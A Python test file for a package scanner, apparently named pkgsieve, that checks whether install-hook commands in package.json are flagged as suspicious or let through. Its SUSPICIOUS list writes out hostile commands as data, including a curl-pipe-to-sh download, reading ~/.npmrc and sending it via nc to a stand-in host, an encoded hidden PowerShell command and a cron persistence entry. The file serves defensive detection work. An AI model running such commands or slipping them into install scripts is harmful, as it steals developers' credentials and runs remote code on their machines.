"""Tests of pkgsieve.hooks: does the checker see what install scripts do?

The strings below are DATA. They are parsed as text by ``classify`` and are never passed to a
shell or an interpreter; the hosts are reserved names that cannot exist.
"""
import pytest

from pkgsieve.hooks import classify

SUSPICIOUS = [
    ("node -e \"require('https').get('https://drop.invalid/a',r=>r.pipe(process.stdout))\"", "network"),
    ("curl -s https://drop.invalid/i.sh | sh", "download-and-run"),
    ("powershell -w hidden -enc SQBFAFgA", "encoded-command"),
    ("cat ~/.npmrc | nc drop.invalid 9000", "credential-read"),
    ("node ./lib/../setup.js && rm setup.js", "self-delete"),
    ("echo '* * * * * /tmp/.x' | crontab -", "persistence"),
]

ORDINARY = [
    "husky",
    "node-gyp rebuild",
    "prebuild-install || node-gyp rebuild --release",
    "patch-package",
    "node scripts/check-node-version.js",
    "opencollective-postinstall || true",
    "tsc -p . && rollup -c",
]


@pytest.mark.parametrize("script, reason", SUSPICIOUS)
def test_is_reported(script, reason):
    found = classify({"scripts": {"postinstall": script}})
    assert reason in {f.reason for f in found}


@pytest.mark.parametrize("script", ORDINARY)
def test_is_let_through(script):
    assert classify({"scripts": {"postinstall": script}}) == []


def test_only_install_hooks_count():
    """The same text in "deploy" is the business of the developer."""
    text = SUSPICIOUS[1][0]
    assert classify({"scripts": {"deploy": text}}) == []


def test_report_never_repeats_the_command_unescaped(capsys):
    found = classify({"scripts": {"install": "echo \x1b]0;title\x07 | sh"}})
    print(found[0])
    assert "\x1b" not in capsys.readouterr().out
